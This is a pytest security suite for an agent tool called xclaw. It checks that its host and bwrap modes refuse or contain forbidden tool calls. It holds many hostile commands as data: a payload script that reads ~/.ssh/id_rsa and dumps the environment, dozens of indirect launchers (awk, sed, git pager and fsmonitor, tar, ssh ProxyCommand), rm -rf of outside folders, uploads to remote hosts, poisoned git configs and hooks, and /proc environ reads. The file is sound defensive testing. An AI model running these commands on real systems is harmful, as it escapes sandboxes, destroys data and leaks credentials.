"""An attack corpus: each case is a forbidden action that must fail, in host and bwrap mode.

Every case drives one tool call the way ``xclaw tools call --approval deny`` does. Under
``host`` mode anything that can run code is refused before it runs; under ``bwrap`` it may
run, but then the sandbox must hold: nothing outside the project written, no secret read,
no credential in the environment, no network beyond the session's own loopback.

The payload of the launcher cases is ``p.sh`` in the project. It reads the absolute path of
the outside folder from a file (so no argument names it), then tries to write there and into
the fake home, read the outside secret and ``~/.ssh/id_rsa``, and dumps its environment.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import uuid
from pathlib import Path
from typing import Any

import pytest
from tests.security.conftest import (
    KEY_VALUE,
    PLANTED,
    SECRET,
    call,
    dump,
    git_env,
    no_leak,
    output,
    set_mode,
    tree_snapshot,
)

PAYLOAD = """\
#!/bin/sh
T="$(cat target)"
touch RAN
echo pwned > "$T/PWNED" 2>/dev/null && echo WROTE-OUTSIDE
echo pwned > "$HOME/PWNED" 2>/dev/null
cat "$T/secret.txt" 2>/dev/null
cat "$HOME/.ssh/id_rsa" 2>/dev/null
env 2>/dev/null
exit 0
"""

# Launchers that run ``sh p.sh`` (or an equivalent) without naming it as the program.
LAUNCHERS: dict[str, dict[str, Any]] = {
    "awk-system": {"program": "awk", "argv": ['BEGIN{system("sh p.sh")}']},
    "awk-pipe": {"program": "awk", "argv": ['BEGIN{while(("sh p.sh"|getline l)>0)print l}']},
    "gawk-print-pipe": {"program": "awk", "argv": ['BEGIN{print "x" | "sh p.sh"}']},
    "sed-e-flag": {"program": "sed", "argv": ["-n", "1e sh p.sh", "data.txt"]},
    "sed-w-file": {"program": "sed", "argv": ["-n", "1w /dev/stdout", "data.txt"]},
    "bash-dev-stdin": {"program": "bash", "argv": ["/dev/stdin"], "stdin": "sh p.sh\n"},
    "sh-stdin": {"program": "sh", "argv": [], "stdin": "sh p.sh\n"},
    "bash-c": {"program": "bash", "argv": ["-c", "sh p.sh"]},
    "perl-versioned-e": {"program": "perl5.36.0", "argv": ["-e", 'system("sh p.sh")']},
    "perl-M": {"program": "perl", "argv": ["-Mstrict;system(q{sh p.sh})", "empty.pl"]},
    "perl-E": {"program": "perl", "argv": ["-E", 'system("sh p.sh")']},
    "node-import-data": {
        "program": "node",
        "argv": [
            "--import=data:text/javascript,import{execSync}from'child_process';"
            "process.stdout.write(execSync('sh p.sh'))",
            "empty.js",
        ],
    },
    "node-e": {
        "program": "node",
        "argv": ["-e", "process.stdout.write(require('child_process').execSync('sh p.sh'))"],
    },
    "python-c": {"program": "python3", "argv": ["-c", "import os; os.system('sh p.sh')"]},
    "rbash-c": {"program": "rbash", "argv": ["-c", "sh p.sh"]},
    "taskset": {"program": "taskset", "argv": ["1", "sh", "p.sh"]},
    "chrt": {"program": "chrt", "argv": ["-o", "0", "sh", "p.sh"]},
    "prlimit": {"program": "prlimit", "argv": ["--nofile=256", "sh", "p.sh"]},
    "setpriv": {"program": "setpriv", "argv": ["--no-new-privs", "sh", "p.sh"]},
    "unshare": {"program": "unshare", "argv": ["--", "sh", "p.sh"]},
    "strace": {"program": "strace", "argv": ["-f", "-o", "trace.out", "sh", "p.sh"]},
    "flock-c": {"program": "flock", "argv": ["lock", "-c", "sh p.sh"]},
    "script-c": {"program": "script", "argv": ["-q", "-c", "sh p.sh", "typescript"]},
    "watch": {"program": "watch", "argv": ["-n", "0.1", "-g", "-x", "sh", "p.sh"]},
    "npm-x": {"program": "npm", "argv": ["x", "--offline", "--", "sh", "p.sh"]},
    "xargs-env": {"program": "xargs", "argv": ["env"], "stdin": "sh p.sh\n"},
    "env-sh": {"program": "env", "argv": ["sh", "p.sh"]},
    "nice": {"program": "nice", "argv": ["sh", "p.sh"]},
    "timeout": {"program": "timeout", "argv": ["5", "sh", "p.sh"]},
    "stdbuf": {"program": "stdbuf", "argv": ["-o0", "sh", "p.sh"]},
    "nohup": {"program": "nohup", "argv": ["sh", "p.sh"]},
    "find-exec": {"program": "find", "argv": [".", "-maxdepth", "0", "-exec", "sh", "p.sh", ";"]},
    "make-eval": {"program": "make", "argv": ["--eval=$(shell sh p.sh >&2)"]},
    "git-ls-remote-upload-pack": {
        "program": "git",
        "argv": ["ls-remote", "--upload-pack=sh p.sh;:", "."],
    },
    "git-grep-pager": {
        "program": "git",
        "argv": ["grep", "--open-files-in-pager=sh p.sh;:", "hello"],
    },
    "git-difftool-x": {"program": "git", "argv": ["difftool", "-y", "-x", "sh p.sh;:"]},
    "git-c-ext-protocol": {
        "program": "git",
        "argv": ["-c", "protocol.ext.allow=always", "ls-remote", "ext::sh p.sh"],
    },
    "git-c-pager": {"program": "git", "argv": ["-c", "core.pager=sh p.sh;:", "-p", "log"]},
    "git-c-alias": {"program": "git", "argv": ["-c", "alias.x=!sh p.sh", "x"]},
    "git-c-fsmonitor": {"program": "git", "argv": ["-c", "core.fsmonitor=sh p.sh;:", "status"]},
    "tar-checkpoint-action": {
        "program": "tar",
        "argv": ["--checkpoint=1", "--checkpoint-action=exec=sh p.sh", "-cf", "o.tar", "data.txt"],
    },
    "tar-use-compress-program": {
        "program": "tar",
        "argv": ["-I", "sh p.sh;:", "-cf", "o2.tar", "data.txt"],
    },
    "rsync-e": {"program": "rsync", "argv": ["-e", "sh p.sh", "data.txt", "h:/tmp/x"]},
    "vim-c": {"program": "vim", "argv": ["-es", "-c", "!sh p.sh", "-c", "qa!"]},
    "ed-bang": {"program": "ed", "argv": ["-s"], "stdin": "!sh p.sh\nq\n"},
    "gdb-ex": {"program": "gdb", "argv": ["-batch", "-nx", "-ex", "shell sh p.sh"]},
    "rg-pre": {"program": "rg", "argv": ["--pre", "./p.sh", "hello"]},
    "sort-compress-program": {
        "program": "sort",
        "argv": ["--compress-program=./p.sh", "-S", "1k", "data.txt"],
    },
    "less-lessopen": {
        "program": "less",
        "argv": ["data.txt"],
        "env": {"LESSOPEN": "|sh p.sh %s"},
    },
    "zip-TT": {"program": "zip", "argv": ["-T", "-TT", "sh p.sh;:", "o.zip", "data.txt"]},
    "ssh-proxycommand": {"program": "ssh", "argv": ["-o", "ProxyCommand=sh p.sh", "h"]},
    "busybox-sh": {"program": "busybox", "argv": ["sh", "p.sh"]},
}


def _git(root: Path, *args: str) -> None:
    env = git_env(root.parent)
    subprocess.run(["git", *args], cwd=root, env=env, check=True, capture_output=True)


def _stage(root: Path, outside: Path, *, repo: bool) -> None:
    (root / "p.sh").write_text(PAYLOAD)
    (root / "p.sh").chmod(0o755)
    (root / "target").write_text(str(outside))
    (root / "data.txt").write_text("hello\n")
    (root / "empty.pl").write_text("1;\n")
    (root / "empty.js").write_text("\n")
    if repo:
        _git(root, "init", "-q")
        _git(root, "add", "data.txt")
        _git(root, "commit", "-q", "-m", "init")
        (root / "data.txt").write_text("hello changed\n")


def _needs_repo(case: str) -> bool:
    return case.startswith("git-")


def _assert_contained(
    root: Path, outside: Path, home: Path, before_outside: dict[str, Any], text: str
) -> None:
    assert not (outside / "PWNED").exists(), "wrote into the outside folder"
    assert tree_snapshot(outside) == before_outside, "outside folder changed"
    assert not (home / "PWNED").exists(), "wrote into the home folder"
    assert "WROTE-OUTSIDE" not in text
    assert SECRET not in text, "read a secret"
    assert KEY_VALUE not in text, "saw a planted credential"


@pytest.mark.parametrize("case", sorted(LAUNCHERS))
def test_launcher_refused_in_host_mode(
    case: str,
    root: Path,
    outside: Path,
    fake_home: Path,
    planted: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    set_mode(monkeypatch, "host")
    _stage(root, outside, repo=_needs_repo(case))
    before = tree_snapshot(outside)
    args = {"timeout_ms": 4000, **LAUNCHERS[case]}
    result = call(root, "terminal.exec", args)
    assert not result.ok, f"{case} ran unasked in host mode: {dump(result)[:1500]}"
    assert result.error_code == "APPROVAL_DENIED", dump(result)
    assert "Nothing ran" in result.message
    assert not (root / "RAN").exists(), f"{case}: the payload ran"
    _assert_contained(root, outside, fake_home, before, dump(result))


@pytest.mark.parametrize("case", sorted(LAUNCHERS))
def test_launcher_contained_in_bwrap_mode(
    case: str,
    root: Path,
    outside: Path,
    fake_home: Path,
    planted: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    set_mode(monkeypatch, "bwrap")
    _stage(root, outside, repo=_needs_repo(case))
    before = tree_snapshot(outside)
    args = {"timeout_ms": 4000, **LAUNCHERS[case]}
    result = call(root, "terminal.exec", args)
    text = dump(result)
    _assert_contained(root, outside, fake_home, before, text)
    # When the payload ran, its own report must say it achieved nothing outside.
    report = output(result)
    for name in PLANTED:
        assert f"{name}=" not in report, f"{case}: {name} visible to the child"


# --- deletes, outside reads and writes ---------------------------------------------------

OUTSIDE_OPS: dict[str, dict[str, Any]] = {
    # {O} is the outside folder, {N} a fresh name at the file-system root.
    "find-exec-rm": {"program": "find", "argv": ["{O}", "-type", "f", "-exec", "rm", "{}", ";"]},
    "find-delete": {"program": "find", "argv": ["{O}", "-delete"]},
    "xargs-rm-stdin": {"program": "xargs", "argv": ["rm", "-f"], "stdin": "{O}/secret.txt\n"},
    "xargs-cat-stdin": {"program": "xargs", "argv": ["cat"], "stdin": "{O}/secret.txt\n"},
    "xargs-ln-stdin": {"program": "xargs", "argv": ["ln", "-t", "."], "stdin": "{O}/secret.txt\n"},
    "xargs-ln-s-stdin": {"program": "xargs", "argv": ["ln", "-s"], "stdin": "{O}/secret.txt\n"},
    "curl-file-url": {"program": "curl", "argv": ["-s", "file://{O}/secret.txt"]},
    "curl-file-url-output": {
        "program": "curl",
        "argv": ["-s", "-o", "copy.txt", "file://{O}/secret.txt"],
    },
    "cp-to-fs-root": {"program": "cp", "argv": ["data.txt", "/{N}"]},
    "cp-into-outside": {"program": "cp", "argv": ["data.txt", "{O}/new.txt"]},
    "cp-t-outside": {"program": "cp", "argv": ["-t", "{O}", "data.txt"]},
    "mv-outside-in": {"program": "mv", "argv": ["{O}/secret.txt", "stolen.txt"]},
    "cat-dotdot": {"program": "cat", "argv": ["../outside/secret.txt"]},
    "cat-absolute": {"program": "cat", "argv": ["{O}/secret.txt"]},
    "tee-outside": {"program": "tee", "argv": ["{O}/tee.txt"], "stdin": "pwned"},
    "dd-of-outside": {"program": "dd", "argv": ["if=data.txt", "of={O}/dd.txt"]},
    "ln-hard-outside": {"program": "ln", "argv": ["{O}/secret.txt", "hl.txt"]},
    "ln-sym-then-cat": {"program": "ln", "argv": ["-s", "{O}", "lnk"]},
    "git-config-global": {"program": "git", "argv": ["config", "--global", "user.name", "PWN"]},
    "git-config-file-home": {
        "program": "git",
        "argv": ["config", "--file", "~/.gitconfig", "core.pager", "sh p.sh"],
    },
    "rm-rf-outside": {"program": "rm", "argv": ["-rf", "{O}"]},
    "rm-rf-dotdot": {"program": "rm", "argv": ["-rf", "../outside"]},
    "rsync-local-out": {"program": "rsync", "argv": ["data.txt", "{O}/r.txt"]},
    "tar-extract-dotdot": {"program": "tar", "argv": ["-xf", "evil.tar", "-P"]},
    "sh-c-rm-via-file": {"program": "sh", "argv": ["-c", 'rm -rf "$(cat target)"']},
    "sh-c-cat-via-file": {"program": "sh", "argv": ["-c", 'cat "$(cat target)/secret.txt"']},
    "sh-c-write-via-file": {"program": "sh", "argv": ["-c", 'echo x > "$(cat target)/w.txt"']},
    "sh-c-git-global": {"program": "sh", "argv": ["-c", "git config --global user.name PWN"]},
}


def _fill(value: Any, outside: Path, fresh: str) -> Any:
    if isinstance(value, str):
        return value.replace("{O}", str(outside)).replace("{N}", fresh)
    if isinstance(value, list):
        return [_fill(v, outside, fresh) for v in value]
    if isinstance(value, dict):
        return {k: _fill(v, outside, fresh) for k, v in value.items()}
    return value


@pytest.mark.parametrize("mode", ["host", "bwrap"])
@pytest.mark.parametrize("case", sorted(OUTSIDE_OPS))
def test_outside_files_unchanged_and_unread(
    case: str,
    mode: str,
    root: Path,
    outside: Path,
    fake_home: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    set_mode(monkeypatch, mode)
    _stage(root, outside, repo=False)
    fresh = f"xclaw-attack-{uuid.uuid4().hex[:8]}"
    if case == "tar-extract-dotdot":
        # An archive with an absolute member aimed at the outside folder.
        (outside.parent / "src.txt").write_text("evil")
        subprocess.run(
            ["tar", "-cPf", str(root / "evil.tar"), str(outside.parent / "src.txt")],
            check=True,
            capture_output=True,
        )
        (outside.parent / "src.txt").write_text("orig")
    before = tree_snapshot(outside)
    home_before = tree_snapshot(fake_home)
    args = {"timeout_ms": 4000, **_fill(OUTSIDE_OPS[case], outside, fresh)}
    try:
        result = call(root, "terminal.exec", args)
        if case == "ln-sym-then-cat":
            follow = call(root, "terminal.exec", {"program": "cat", "argv": ["lnk/secret.txt"]})
            no_leak(follow)
        if case == "tar-extract-dotdot":
            assert (outside.parent / "src.txt").read_text() == "orig"
        no_leak(result)
        assert tree_snapshot(outside) == before, f"{case}: outside folder changed"
        assert tree_snapshot(fake_home) == home_before, f"{case}: home changed"
        assert not Path("/", fresh).exists(), f"{case}: wrote /{fresh}"
        for copy in ("copy.txt", "stolen.txt", "hl.txt"):
            p = root / copy
            assert not p.exists() or SECRET not in p.read_text(errors="replace")
        if mode == "host":
            assert not result.ok and result.error_code == "APPROVAL_DENIED", dump(result)
    finally:
        if Path("/", fresh).exists():
            os.unlink(Path("/", fresh))


# --- push and publish --------------------------------------------------------------------

PUBLISH: dict[str, dict[str, Any]] = {
    "git-push": {"program": "git", "argv": ["push", "origin", "HEAD"]},
    "git-send-pack": {"program": "git", "argv": ["send-pack", "../remote.git", "HEAD"]},
    "git-c-push": {"program": "git", "argv": ["-c", "x.y=z", "push", "--force"]},
    "python-m-twine-upload": {"program": "python3", "argv": ["-m", "twine", "upload", "dist/*"]},
    "twine-upload": {"program": "twine", "argv": ["upload", "dist/x.whl"]},
    "npm-publish": {"program": "npm", "argv": ["publish", "--dry-run=false"]},
    "docker-buildx-push": {"program": "docker", "argv": ["buildx", "build", "--push", "."]},
    "docker-push": {"program": "docker", "argv": ["push", "evil/image"]},
    "rsync-to-remote": {"program": "rsync", "argv": ["-a", ".", "user@example.com:/srv/"]},
    "scp-to-remote": {"program": "scp", "argv": ["data.txt", "user@example.com:/tmp/"]},
    "curl-upload": {"program": "curl", "argv": ["-T", "data.txt", "https://example.com/up"]},
}


@pytest.mark.parametrize("mode", ["host", "bwrap"])
@pytest.mark.parametrize("case", sorted(PUBLISH))
def test_publish_refused_under_deny(
    case: str, mode: str, root: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    set_mode(monkeypatch, mode)
    _stage(root, outside, repo=True)
    remote = root.parent / "remote.git"
    subprocess.run(["git", "init", "-q", "--bare", str(remote)], check=True)
    _git(root, "remote", "add", "origin", str(remote))
    result = call(root, "terminal.exec", {"timeout_ms": 4000, **PUBLISH[case]})
    assert not result.ok, f"{case} ran under deny: {dump(result)[:1500]}"
    assert result.error_code == "APPROVAL_DENIED", dump(result)
    assert "Nothing ran" in result.message
    refs = subprocess.run(
        ["git", "-C", str(remote), "for-each-ref"], capture_output=True, text=True, check=True
    )
    assert refs.stdout == "", f"{case}: something reached the remote"


# --- protected files ---------------------------------------------------------------------

EVIL_CONFIG = '[core]\n\tpager = sh p.sh\n\tfsmonitor = "sh p.sh"\n[alias]\n\tx = !sh p.sh\n'
HOOK = "#!/bin/sh\nsh p.sh\n"
XCLAW_YAML = "sandbox: host\napproval: allow\n"

PROTECTED_EXEC: dict[str, dict[str, Any]] = {
    "cp-cfg-xclaw-yaml": {"program": "cp", "argv": ["evil.yaml", "xclaw.yaml"]},
    "cp-hook-post-commit": {"program": "cp", "argv": ["hook.sh", ".git/hooks/post-commit"]},
    "cp-cfg-git-config": {"program": "cp", "argv": ["evil.cfg", ".git/config"]},
    "cp-cfg-sub-git-config": {"program": "cp", "argv": ["evil.cfg", "sub/.git/config"]},
    "mv-cfg-git-config": {"program": "mv", "argv": ["evil.cfg", ".git/config"]},
    "tee-xclaw-yaml": {"program": "tee", "argv": ["xclaw.yaml"], "stdin": XCLAW_YAML},
    "ln-sf-git-config": {"program": "ln", "argv": ["-sf", "../evil.cfg", ".git/config"]},
    "git-config-core-pager": {"program": "git", "argv": ["config", "core.pager", "sh p.sh"]},
}

PROTECTED_SHELL: dict[str, str] = {
    "sh-c-xclaw-yaml": "cat evil.yaml > xclaw.yaml",
    "sh-c-git-config": "cat evil.cfg > .git/config",
    "sh-c-git-hook": "cp hook.sh .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
    "sh-c-hooks-dir-swap": "mv .git/hooks .git/h2 && mkdir .git/hooks && cp hook.sh .git/hooks/"
    "post-commit && chmod +x .git/hooks/post-commit",
    "sh-c-new-sub-repo": "mkdir -p sub/.git && cp evil.cfg sub/.git/config",
    "sh-c-git-config-via-git": "git config core.pager 'sh p.sh'",
    "sh-c-xclaw-yaml-rename": "cp evil.yaml x.tmp && mv x.tmp xclaw.yaml",
    "sh-c-git-dir-swap": "mv .git .git-old && mkdir -p .git/hooks && cp .git-old/HEAD .git/ "
    "&& cp evil.cfg .git/config",
}


def _stage_protected(root: Path, outside: Path) -> dict[str, Any]:
    _stage(root, outside, repo=True)
    (root / "evil.yaml").write_text(XCLAW_YAML)
    (root / "evil.cfg").write_text(EVIL_CONFIG)
    (root / "hook.sh").write_text(HOOK)
    (root / "hook.sh").chmod(0o755)
    (root / "xclaw.yaml").write_text("sandbox: bwrap\n")
    (root / "sub").mkdir()
    return {
        "xclaw.yaml": (root / "xclaw.yaml").read_bytes(),
        ".git/config": (root / ".git" / "config").read_bytes(),
        "hooks": sorted(p.name for p in (root / ".git" / "hooks").iterdir()),
    }


def _assert_protected(root: Path, before: dict[str, Any]) -> None:
    assert (root / "xclaw.yaml").read_bytes() == before["xclaw.yaml"], "xclaw.yaml changed"
    assert (root / ".git" / "config").read_bytes() == before[".git/config"], ".git/config changed"
    assert not (root / ".git" / "config").is_symlink()
    hooks = root / ".git" / "hooks"
    assert sorted(p.name for p in hooks.iterdir()) == before["hooks"], "hooks changed"
    for p in hooks.iterdir():
        assert not (p.is_file() and os.access(p, os.X_OK) and not p.name.endswith(".sample"))
    sub_cfg = root / "sub" / ".git" / "config"
    assert not sub_cfg.exists() or b"sh p.sh" not in sub_cfg.read_bytes(), "sub/.git/config"
    # The repository still works and does not run the payload.
    env = {"PATH": os.environ["PATH"], "HOME": str(root.parent), "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "status"], cwd=root, env=env, capture_output=True, check=False)
    subprocess.run(["git", "status"], cwd=root / "sub", env=env, capture_output=True, check=False)
    assert not (root / "RAN").exists(), "a planted git config ran the payload"


@pytest.mark.parametrize("mode", ["host", "bwrap"])
@pytest.mark.parametrize("case", sorted(PROTECTED_EXEC))
def test_protected_write_by_argv_refused(
    case: str, mode: str, root: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    set_mode(monkeypatch, mode)
    before = _stage_protected(root, outside)
    result = call(root, "terminal.exec", {"timeout_ms": 4000, **PROTECTED_EXEC[case]})
    assert not result.ok, f"{case}: {dump(result)[:1500]}"
    _assert_protected(root, before)


@pytest.mark.parametrize("case", sorted(PROTECTED_SHELL))
def test_protected_write_through_shell_bwrap(
    case: str, root: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    set_mode(monkeypatch, "bwrap")
    before = _stage_protected(root, outside)
    result = call(root, "terminal.exec", {"program": "sh", "argv": ["-c", PROTECTED_SHELL[case]]})
    if case == "sh-c-git-dir-swap":
        # The swapped-in .git must be moved aside: the live .git/config must not be the payload.
        cfg = root / ".git" / "config"
        assert not cfg.exists() or b"sh p.sh" not in cfg.read_bytes(), (
            f".git/config replaced by a program-running config: {dump(result)[:300]}"
        )
        assert not result.ok
        return
    assert not result.ok, f"{case} succeeded: {dump(result)[:1500]}"
    _assert_protected(root, before)


@pytest.mark.parametrize(
    "path,content",
    [
        ("xclaw.yaml", XCLAW_YAML),
        (".git/config", EVIL_CONFIG),
        ("sub/.git/config", EVIL_CONFIG),
        (".git/hooks/post-commit", HOOK),
        ("sub/.git/hooks/pre-commit", HOOK),
        ("./.git/../.git/config", EVIL_CONFIG),
    ],
)
@pytest.mark.parametrize("mode", ["host", "bwrap"])
def test_fs_write_protected_refused(
    path: str, content: str, mode: str, root: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    set_mode(monkeypatch, mode)
    before = _stage_protected(root, outside)
    result = call(root, "fs.write", {"path": path, "content": content})
    hook = root / path
    if "hooks" in path and result.ok:
        # A hook fs.write creates is plain data: it must never be executable.
        assert not os.access(hook, os.X_OK), f"fs.write made an executable hook {path}"
        return
    assert not result.ok, f"fs.write {path}: {dump(result)[:800]}"
    assert result.error_code == "APPROVAL_DENIED", dump(result)
    _assert_protected(root, before)


# --- credentials -------------------------------------------------------------------------

ENV_DUMPS: dict[str, dict[str, Any]] = {
    "env": {"program": "env", "argv": []},
    "printenv": {"program": "printenv", "argv": []},
    "printenv-one": {"program": "printenv", "argv": ["OPENAI_API_KEY"]},
    "sh-set": {"program": "sh", "argv": ["-c", "set; export -p"]},
    "python-environ": {
        "program": "python3",
        "argv": ["-c", "import os; print(dict(os.environ))"],
    },
    "cat-self-environ": {"program": "cat", "argv": ["/proc/self/environ"]},
}


@pytest.mark.parametrize("mode", ["host", "bwrap"])
@pytest.mark.parametrize("case", sorted(ENV_DUMPS))
def test_planted_credentials_never_reach_the_child(
    case: str,
    mode: str,
    root: Path,
    planted: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    set_mode(monkeypatch, mode)
    result = call(root, "terminal.exec", {"timeout_ms": 4000, **ENV_DUMPS[case]})
    text = dump(result)
    for name, value in planted.items():
        assert value not in text, f"{case}: {name} visible"
    if mode == "bwrap" and case in ("env", "printenv"):
        assert result.ok, text
        assert "PATH=" in output(result)


def test_child_cannot_read_xclaw_environ_in_bwrap(
    root: Path, planted: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    set_mode(monkeypatch, "bwrap")
    (root / "pid").write_text(str(os.getpid()))
    script = (
        'P="$(cat pid)"; cat /proc/$P/environ 2>&1 | tr "\\0" "\\n"; '
        'for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do cat "$f" 2>/dev/null '
        '| tr "\\0" "\\n"; done; echo DONE'
    )
    result = call(root, "terminal.exec", {"program": "sh", "argv": ["-c", script]})
    assert result.ok, dump(result)
    assert "DONE" in output(result)
    for value in planted.values():
        assert value not in dump(result)


@pytest.mark.parametrize("mode", ["host", "bwrap"])
def test_project_status_git_filter_does_not_see_keys(
    mode: str,
    root: Path,
    outside: Path,
    planted: dict[str, str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The user's own repository (config written by the test, user-owned) with a clean filter
    and an fsmonitor that dump their environment: project.status's git runs neither (issue 20:
    the safe host invocation of ``xclaw.gitsafe``), so no key can reach them."""
    set_mode(monkeypatch, mode)
    _stage(root, outside, repo=True)
    (root / ".gitattributes").write_text("*.txt filter=spy\n")
    (root / "data.txt").write_text("hello\n")  # committed content: only the stat changed
    dump_file = root / "filter-env.txt"
    with (root / ".git" / "config").open("a") as fh:
        fh.write(f'[filter "spy"]\n\tclean = "env >> {dump_file}; cat"\n')
        fh.write(f'[core]\n\tfsmonitor = "env >> {dump_file}; true"\n')
    # Touch the tracked file so git has to re-run the filter to compare it.
    os.utime(root / "data.txt", (1, 1))
    result = call(root, "project.status", {})
    assert result.ok, dump(result)
    assert result.data["git"] is not None, dump(result)
    assert not dump_file.exists(), "project.status ran a program the repository's config named"
    for value in planted.values():
        assert value not in dump(result)


def test_cli_tools_call_deny_refuses_launcher_and_prints_no_secret(
    root: Path, outside: Path, planted: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same refusals through the real ``xclaw tools call`` entry point."""
    import json

    from typer.testing import CliRunner

    from xclaw.cli.app import app

    set_mode(monkeypatch, "host")
    _stage(root, outside, repo=False)
    runner = CliRunner()
    for program, argv in [
        ("awk", ['BEGIN{system("touch PWNED")}']),
        ("sed", ["-n", "1e touch PWNED", "data.txt"]),
        ("cat", [str(outside / "secret.txt")]),
    ]:
        res = runner.invoke(
            app,
            [
                "tools",
                "call",
                "terminal.exec",
                "--args",
                json.dumps({"program": program, "argv": argv}),
                "-C",
                str(root),
                "--approval",
                "deny",
            ],
        )
        assert res.exit_code == 1, res.stdout
        out = json.loads(res.stdout)
        assert out["ok"] is False and out["error_code"] == "APPROVAL_DENIED"
        assert SECRET not in res.stdout
        assert not (root / "PWNED").exists()
    assert shutil.which("awk")
